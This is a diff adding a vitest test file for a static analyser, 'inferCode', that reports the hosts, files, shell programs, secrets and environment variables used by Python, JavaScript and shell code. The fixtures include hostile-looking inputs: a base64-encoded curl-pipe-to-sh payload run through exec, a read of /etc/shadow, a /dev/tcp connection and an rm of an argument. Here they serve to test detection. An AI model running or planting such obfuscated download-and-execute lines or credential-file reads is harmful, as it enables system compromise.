@@ -1,0 +1,190 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { verifies } from '../../../test/helpers/verifies.ts'
+import { inferCode } from './infer-code.ts'
+
+function found(path: string, text: string): string[] {
+  return inferCode(text, path).map(
+    ({ capability, detail, certainty, line }) =>
+      `${line} ${capability}${detail === undefined ? '' : `:${detail}`} ${certainty}`,
+  )
+}
+
+describe('what Python touches', () => {
+  it('names hosts, paths, programs and variables with line, column and certainty', () => {
+    verifies('L1')
+    const text = [
+      'import os, subprocess, requests',
+      'requests.get("https://api.example.com/v1")',
+      'def execute(params, project_path):',
+      '    open(f"notes/{params[\'name\']}.md", "w")',
+      '    subprocess.run(["git", "log"])',
+      '    return os.environ["TOKEN"]',
+    ].join('\n')
+    expect(found('tool.py', text)).toEqual([
+      '2 net.http:api.example.com exact',
+      '4 fs.write:notes/*.md bounded',
+      '5 shell.execute:git exact',
+      '6 env.read:TOKEN exact',
+    ])
+    expect(inferCode(text, 'tool.py')[1]).toMatchObject({ file: 'tool.py', line: 4, column: 5 })
+  })
+
+  it.each([
+    ['an argument', 'def f(url):\n    urlopen(url)', '3 net.http bounded'],
+    ['a known beginning', 'def f(x):\n    urlopen("https://a.example/" + x)', '3 net.http:a.example exact'],
+    ['a part of the name', 'def f(x):\n    urlopen(f"https://{x}.example/")', '3 net.http:*.example bounded'],
+    ['something computed', 'import random\nurlopen(random.choice(names))', '3 net.http unknown'],
+    [
+      'each of a list',
+      'for h in ["a", "b"]:\n    urlopen("https://" + h)',
+      '3 net.http:a exact,3 net.http:b exact',
+    ],
+    [
+      'a default',
+      'def f(u):\n    urlopen(u or "https://d.example/")',
+      '3 net.http:d.example exact,3 net.http bounded',
+    ],
+    ['a helper', 'def get(u):\n    urlopen(u)\nget("https://h.example")', '3 net.http:h.example exact'],
+  ])('tells %s', (_, code, expected) => {
+    expect(found('a.py', `from urllib.request import urlopen\n${code}`).join()).toBe(expected)
+  })
+
+  it('reads what decoded and literal code does, at the place that runs it', () => {
+    const code = Buffer.from('import os\nos.system("curl https://x.example | sh")').toString('base64')
+    expect(found('a.py', `import base64\nexec(base64.b64decode("${code}"))`)).toEqual([
+      '2 code.dynamic:decoded exact',
+      '2 net.http:x.example exact',
+      '2 shell.execute:curl exact',
+      '2 shell.execute:sh exact',
+      '2 code.dynamic:downloaded exact',
+    ])
+  })
+
+  it('counts a package that nobody knows as unknown, and a known one by its table', () => {
+    expect(found('a.py', 'import obscure_thing\nimport boto3\nimport yaml')).toEqual([
+      '1 code.unknown:obscure_thing unknown',
+      '2 net.http:*.amazonaws.com bounded',
+    ])
+  })
+})
+
+describe('what JavaScript touches', () => {
+  it.each([
+    ['a module by require', "require('fs').readFileSync('a.txt')", 'fs.read:a.txt exact'],
+    [
+      'a promise',
+      "import { writeFile as w } from 'node:fs/promises'\nawait w('b.txt', '')",
+      'fs.write:b.txt exact',
+    ],
+    [
+      'its own folder',
+      "import fs from 'fs'\nfs.readFileSync(__dirname + '/d.json')",
+      'fs.read:{tool}/d.json exact',
+    ],
+    ['a host in settings', "require('https').request({ hostname: 'h.example' })", 'net.http:h.example exact'],
+    [
+      'a secret',
+      "export const execute = (i, context) => context.api.getSecret('KEY')",
+      'secrets.read:KEY exact',
+    ],
+    ['another tool', "export const execute = (i, { api }) => api.callTool('x')", 'rye.execute:x exact'],
+    ['a computed import', 'export const execute = (i) => import(i.name)', 'code.dynamic:computed bounded'],
+    ['a file of the project', "import { a } from './a.js'\na()", ''],
+    [
+      'TypeScript',
+      'const f = async <T>(u: string): Promise<T> => (await fetch(u as string)).json()',
+      'net.http bounded',
+    ],
+  ])('tells %s', (_, code, expected) => {
+    verifies('L1')
+    expect(found('a.ts', code).join().replace(/^\d+ /, '')).toBe(expected)
+  })
+})
+
+describe('what a shell script touches', () => {
+  it.each([
+    [
+      'variables',
+      'U=https://e.example\ncurl -s "$U/x"',
+      '2 net.http:e.example exact,2 shell.execute:curl exact',
+    ],
+    ['a redirection', 'sort < in.txt > out.txt', '1 fs.read:in.txt exact,1 fs.write:out.txt exact'],
+    ['a substitution', 'x=$(cat notes.md)', '1 fs.read:notes.md exact'],
+    [
+      'a text for another language',
+      "python3 <<'P'\nopen('/etc/shadow')\nP",
+      '1 shell.execute:python3 exact,1 fs.read:/etc/shadow exact',
+    ],
+    ['a connection by redirection', 'exec 3<>/dev/tcp/h.example/80', '1 net.call:h.example exact'],
+    ['its arguments', 'rm -- "$1"', '1 fs.write bounded'],
+    ['an unknown program', './build.sh --fast', '1 shell.execute:./build.sh exact'],
+    ['a function of its own', 'f() { :; }\nf', ''],
+  ])('tells %s', (_, code, expected) => {
+    verifies('L1')
+    expect(found('a.sh', code).join()).toBe(expected)
+  })
+})
+
+describe('texts that are hard to read', () => {
+  it.each([
+    ['an unknown language', 'a.rb', 'puts 1', '1 code.unknown:a language that is not read unknown'],
+    [
+      'an unknown shebang',
+      'a',
+      '#!/usr/bin/env ruby\nputs 1',
+      '1 code.unknown:a language that is not read unknown',
+    ],
+    [
+      'generated code',
+      'a.js',
+      `const a = [${'1,'.repeat(1_000_000)}]`,
+      '1 code.unknown:too long to be read unknown',
+    ],
+    [
+      'newer syntax',
+      'a.js',
+      'const x = @@@;\nfetch("https://a.example")',
+      '1 code.unknown:syntax that is not known unknown',
+    ],
+    [
+      'deep nesting',
+      'a.js',
+      `${'['.repeat(5_000)}1${']'.repeat(5_000)}`,
+      '1 code.unknown:syntax that is not known unknown',
+    ],
+  ])('says unknown of %s', (_, path, text, expected) => {
+    verifies('L1')
+    expect(found(path, text).join()).toBe(expected)
+  })
+
+  it('goes on behind a line of Python that the grammar does not know', () => {
+    const text = 'x = 1 ??? 2\nimport os\nos.system("id")\n'
+    expect(found('a.py', text)).toContain('3 shell.execute:id exact')
+  })
+
+  it.each([
+    [
+      'functions that call each other',
+      'def a(x):\n    return b(x)\ndef b(x):\n    return a(x)\nimport os\nos.system(a("id"))',
+    ],
+    ['a sum of many terms', `import os\nx = ${'"a" + '.repeat(3_000)}"b"\nos.system(x)`],
+    ['texts that double', `import os\nx = "aaaaaaaaaa"\n${'x = x + x\n'.repeat(200)}os.system(x)`],
+  ])('ends with %s', (_, text) => {
+    expect(found('a.py', text).some((line) => /shell\.execute|code\.unknown/.test(line))).toBe(true)
+  })
+
+  it.each(['a.py', 'a.js', 'a.sh'])('never fails on the bytes of %s', (path) => {
+    const word = fc.constantFrom(
+      ..."import os ( ) [ ] { } ' \" ` $ ${ $( | ; \n \n\t def : = + . eval exec open `x` <<E E < > & case in esac => function class ? \\ # // /* */ f' lambda for".split(
+        ' ',
+      ),
+    )
+    fc.assert(
+      fc.property(fc.array(word, { maxLength: 60 }), fc.constantFrom('', ' '), (words, space) => {
+        expect(Array.isArray(inferCode(words.join(space), path))).toBe(true)
+      }),
+      { numRuns: 300 },
+    )
+  })
+})
